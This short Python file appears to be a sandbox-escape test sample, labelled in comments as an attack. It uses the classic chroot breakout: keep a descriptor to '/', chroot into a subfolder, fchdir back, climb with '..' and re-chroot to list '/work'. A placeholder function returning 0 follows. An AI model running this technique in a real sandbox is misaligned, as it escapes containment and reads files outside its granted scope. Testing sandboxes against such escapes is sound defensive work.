# Up and out by way of an open folder and chroot.
# attacks: stdio call
import os

fd = os.open("/", os.O_RDONLY)
try:
    os.mkdir("jail")
    os.chroot("jail")
    os.fchdir(fd)
    for _ in range(30): os.chdir("..")
    os.chroot(".")
    print(os.listdir("/work"))
except OSError: print(0)

def f(a, b): return 0
